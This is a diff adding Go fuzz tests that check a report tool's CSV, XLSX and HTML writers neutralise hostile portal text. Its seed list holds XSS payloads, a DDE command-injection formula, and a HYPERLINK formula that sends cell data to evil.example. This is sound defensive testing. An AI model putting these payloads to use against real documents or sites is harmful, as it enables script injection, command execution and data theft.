@@ -1,0 +1,351 @@
+package reports
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"github.com/xuri/excelize/v2"
+	"golang.org/x/net/html"
+)
+
+// Portal text is untrusted. These targets feed fuzzed titles, organization
+// names, messages, reasons and URLs through the writers and parse the output
+// back: a spreadsheet cell is never a formula (only vigie's own HYPERLINK,
+// with its argument a closed string literal), CSV stays one record per row,
+// the HTML parse tree gains no element, script or event handler, and the
+// embedded JSON stays valid.
+
+// fixtureTitles returns titles, descriptions and organization titles from the
+// real CKAN payloads under testdata/real, as seeds.
+func fixtureTitles(tb testing.TB) []string {
+	tb.Helper()
+	seen := map[string]bool{}
+	var out []string
+	var walk func(v any)
+	walk = func(v any) {
+		switch x := v.(type) {
+		case map[string]any:
+			for k, c := range x {
+				if s, ok := c.(string); ok && (k == "title" || k == "notes" || k == "description" || k == "name") && !seen[s] && len(s) < 2048 {
+					seen[s] = true
+					out = append(out, s)
+				}
+				walk(c)
+			}
+		case []any:
+			for _, c := range x {
+				walk(c)
+			}
+		}
+	}
+	root := filepath.Join("..", "testdata", "real")
+	err := filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
+		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".json") || strings.Contains(p, "package_list") {
+			return err
+		}
+		b, err := os.ReadFile(p)
+		if err != nil {
+			return err
+		}
+		var v any
+		if json.Unmarshal(b, &v) == nil {
+			walk(v)
+		}
+		return nil
+	})
+	if err != nil {
+		tb.Fatal(err)
+	}
+	if len(out) < 20 {
+		tb.Fatalf("only %d seed titles under %s", len(out), root)
+	}
+	return out
+}
+
+// hostileSeeds are strings that try to become code or break a layout.
+var hostileSeeds = []string{
+	`<script>document.title="PWNED"</script>`,
+	`<img src=x onerror="document.title='PWNED'">`,
+	`"><svg onload=alert(1)>`,
+	`</script><script>alert(1)</script>`,
+	`<!--`, `]]>`, `{{.Portal}}`, `${alert(1)}`,
+	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
+	`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(A1:A2)`, "\t=1+1", "\r=1+1", "\x00=1+1", " =1+1",
+	"line1\nline2\r\nline3", "a\x1b[31mred", "\u202eevil\u202c", "\u2066isolated\u2069",
+	"\xff\xfe invalid utf-8 \xc3", "a,b;c\td\"e'f", "javascript:alert(1)",
+	`https://example.org/"&cmd|' /C calc'!A0&"`,
+}
+
+// fuzzReport is the sample report with untrusted text replaced.
+func fuzzReport(title, org, msg, link string) *Report {
+	r := sampleReport("fr")
+	r.Datasets[0].Title = title
+	r.Datasets[0].Name = title
+	r.Datasets[0].Organization = org
+	r.Datasets[0].Findings[0].Message = msg
+	r.Datasets[0].Findings[1].Hint = msg
+	r.Datasets[1].Title = msg
+	r.Organizations[0].Title = org
+	r.Organizations[0].Name = org
+	r.Links[0].URL = link
+	r.Links[0].Reason = msg
+	r.Links[0].Datasets[0].Title = title
+	r.Links[0].Datasets[0].Name = title
+	r.TopFindings[0].Hint = msg
+	return r
+}
+
+func addSeeds(f *testing.F) {
+	titles := fixtureTitles(f)
+	for i, s := range hostileSeeds {
+		f.Add(s, titles[i%len(titles)], hostileSeeds[(i+3)%len(hostileSeeds)], "https://files.example/"+s)
+	}
+	for i := 0; i < len(titles); i += 25 {
+		f.Add(titles[i], titles[(i+1)%len(titles)], titles[(i+2)%len(titles)], "http://files.example/data.csv")
+	}
+}
+
+// assertInertCell checks one spreadsheet cell value.
+func assertInertCell(t *testing.T, where, v string, oneLine bool) {
+	t.Helper()
+	if v == "" {
+		return
+	}
+	if !utf8.ValidString(v) {
+		t.Fatalf("%s: invalid UTF-8 %q", where, v)
+	}
+	if strings.ContainsRune("=+-@\t\r", rune(v[0])) {
+		t.Fatalf("%s: cell %q would be read as a formula", where, v)
+	}
+	if strings.ContainsAny(v, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") {
+		t.Fatalf("%s: bidirectional override kept in %q", where, v)
+	}
+	for _, r := range v {
+		if r < 0x20 && !(r == '\n' && !oneLine) || r == 0x7f {
+			t.Fatalf("%s: control character %U in %q", where, r, v)
+		}
+	}
+}
+
+func FuzzNeutralise(f *testing.F) {
+	for _, s := range hostileSeeds {
+		f.Add(s)
+	}
+	for _, s := range fixtureTitles(f) {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		for _, oneLine := range []bool{true, false} {
+			n := Neutralise(s, oneLine)
+			assertInertCell(t, "Neutralise", n, oneLine)
+			// Ordinary text is left exactly as it was.
+			plain := utf8.ValidString(s) && s != "" && !strings.ContainsRune("=+-@", rune(s[0])) &&
+				strings.IndexFunc(s, func(r rune) bool {
+					return r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == 0xfffe || r == 0xffff ||
+						(r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069)
+				}) < 0
+			if plain && n != s {
+				t.Fatalf("plain text %q changed to %q", s, n)
+			}
+		}
+		md := mdText(s)
+		if strings.ContainsAny(md, "\r\n") {
+			t.Fatalf("mdText(%q) spans lines: %q", s, md)
+		}
+		for i := 0; i < len(md); i++ {
+			if strings.IndexByte("<>|[]`", md[i]) >= 0 && (i == 0 || md[i-1] != '\\') {
+				t.Fatalf("mdText(%q) = %q leaves %q unescaped", s, md, md[i])
+			}
+		}
+	})
+}
+
+func FuzzCSVEscape(f *testing.F) {
+	addSeeds(f)
+	ctx := context.Background()
+	f.Fuzz(func(t *testing.T, title, org, msg, link string) {
+		r := fuzzReport(title, org, msg, link)
+		for _, sep := range []rune{',', ';'} {
+			c := &CSV{Sep: sep}
+			for _, tb := range r.tables() {
+				var buf bytes.Buffer
+				if err := c.writeTable(ctx, &buf, tb); err != nil {
+					t.Fatalf("%s: %v", tb.name, err)
+				}
+				cr := csv.NewReader(&buf)
+				cr.Comma = sep
+				recs, err := cr.ReadAll()
+				if err != nil {
+					t.Fatalf("%s: the CSV does not parse back: %v", tb.name, err)
+				}
+				rows := 0
+				_ = tb.each(ctx, func([]any) error { rows++; return nil })
+				if len(recs) != rows+1 {
+					t.Fatalf("%s: %d records for %d rows", tb.name, len(recs), rows)
+				}
+				for i, rec := range recs {
+					if len(rec) != len(tb.cols) {
+						t.Fatalf("%s row %d: %d fields for %d columns", tb.name, i, len(rec), len(tb.cols))
+					}
+					for j, v := range rec {
+						switch tb.cols[j].kind {
+						case kInt, kScore, kPercent, kNum:
+							if _, err := strconv.ParseFloat(v, 64); i > 0 && v != "" && err != nil {
+								t.Fatalf("%s row %d: number column holds %q", tb.name, i, v)
+							}
+							continue
+						}
+						assertInertCell(t, tb.name, v, true)
+						if i > 0 && tb.name == "datasets" && j == 1 && i == 1 && v != Neutralise(title, true) {
+							t.Fatalf("title %q written as %q", title, v)
+						}
+					}
+				}
+			}
+		}
+	})
+}
+
+// xlsxCellsInert opens a workbook and checks every cell of every sheet.
+func xlsxCellsInert(t *testing.T, b []byte) (cells int) {
+	t.Helper()
+	f, err := excelize.OpenReader(bytes.NewReader(b))
+	if err != nil {
+		t.Fatalf("the workbook does not open: %v", err)
+	}
+	defer f.Close()
+	for _, sh := range f.GetSheetList() {
+		rows, err := f.GetRows(sh)
+		if err != nil {
+			t.Fatalf("sheet %s: %v", sh, err)
+		}
+		for i, row := range rows {
+			for j, v := range row {
+				cells++
+				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
+				typ, err := f.GetCellType(sh, ref)
+				if err != nil {
+					t.Fatalf("%s!%s: %v", sh, ref, err)
+				}
+				raw, _ := f.GetCellValue(sh, ref, excelize.Options{RawCellValue: true})
+				_, numErr := strconv.ParseFloat(raw, 64)
+				switch {
+				case typ == excelize.CellTypeNumber, typ == excelize.CellTypeDate, typ == excelize.CellTypeBool,
+					typ == excelize.CellTypeUnset && numErr == nil:
+					// a number shown with a format such as "+0.0" is not text
+				default:
+					assertInertCell(t, sh+"!"+ref, v, false)
+				}
+				formula, err := f.GetCellFormula(sh, ref)
+				if err != nil {
+					t.Fatalf("%s!%s: %v", sh, ref, err)
+				}
+				if formula == "" {
+					continue
+				}
+				arg, ok := strings.CutPrefix(formula, `HYPERLINK("`)
+				if ok {
+					arg, ok = strings.CutSuffix(arg, `")`)
+				}
+				if !ok || strings.Contains(strings.ReplaceAll(arg, `""`, ""), `"`) {
+					t.Fatalf("%s!%s: formula %q is not a single closed HYPERLINK string", sh, ref, formula)
+				}
+			}
+		}
+	}
+	return cells
+}
+
+func FuzzXLSXEscape(f *testing.F) {
+	addSeeds(f)
+	ctx := context.Background()
+	f.Fuzz(func(t *testing.T, title, org, msg, link string) {
+		r := fuzzReport(title, org, msg, link)
+		var buf bytes.Buffer
+		if err := (XLSX{}).Write(ctx, &buf, r); err != nil {
+			t.Fatal(err)
+		}
+		xlsxCellsInert(t, buf.Bytes())
+	})
+}
+
+// htmlShape is what a report's HTML may contain, whatever the data.
+type htmlShape struct {
+	tags     map[string]bool
+	scripts  int
+	handlers int
+}
+
+func shapeOf(t testing.TB, b []byte) htmlShape {
+	t.Helper()
+	doc, err := html.Parse(bytes.NewReader(b))
+	if err != nil {
+		t.Fatalf("the HTML does not parse: %v", err)
+	}
+	s := htmlShape{tags: map[string]bool{}}
+	var walk func(n *html.Node)
+	walk = func(n *html.Node) {
+		if n.Type == html.ElementNode {
+			s.tags[n.Data] = true
+			if n.Data == "script" {
+				s.scripts++
+				typ := ""
+				for _, a := range n.Attr {
+					if a.Key == "type" {
+						typ = a.Val
+					}
+				}
+				if typ == "application/json" && n.FirstChild != nil && !json.Valid([]byte(n.FirstChild.Data)) {
+					t.Fatalf("embedded JSON no longer parses: %.200q", n.FirstChild.Data)
+				}
+			}
+			for _, a := range n.Attr {
+				if strings.HasPrefix(strings.ToLower(a.Key), "on") {
+					s.handlers++
+				}
+				if (a.Key == "href" || a.Key == "src") && strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") {
+					t.Fatalf("<%s %s=%q>", n.Data, a.Key, a.Val)
+				}
+			}
+		}
+		for c := n.FirstChild; c != nil; c = c.NextSibling {
+			walk(c)
+		}
+	}
+	walk(doc)
+	return s
+}
+
+func FuzzHTMLEscape(f *testing.F) {
+	addSeeds(f)
+	ctx := context.Background()
+	var base bytes.Buffer
+	if err := (HTML{}).Write(ctx, &base, fuzzReport("Titre", "Organisation", "Message", "https://files.example/a.csv")); err != nil {
+		f.Fatal(err)
+	}
+	want := shapeOf(f, base.Bytes())
+	f.Fuzz(func(t *testing.T, title, org, msg, link string) {
+		var buf bytes.Buffer
+		if err := (HTML{}).Write(ctx, &buf, fuzzReport(title, org, msg, link)); err != nil {
+			t.Fatal(err)
+		}
+		got := shapeOf(t, buf.Bytes())
+		if got.scripts != want.scripts || got.handlers != want.handlers {
+			t.Fatalf("portal text changed the page: %d scripts and %d event handlers, want %d and %d",
+				got.scripts, got.handlers, want.scripts, want.handlers)
+		}
+		for tag := range got.tags {
+			if !want.tags[tag] {
+				t.Fatalf("portal text created a <%s> element", tag)
+			}
+		}
+	})
+}
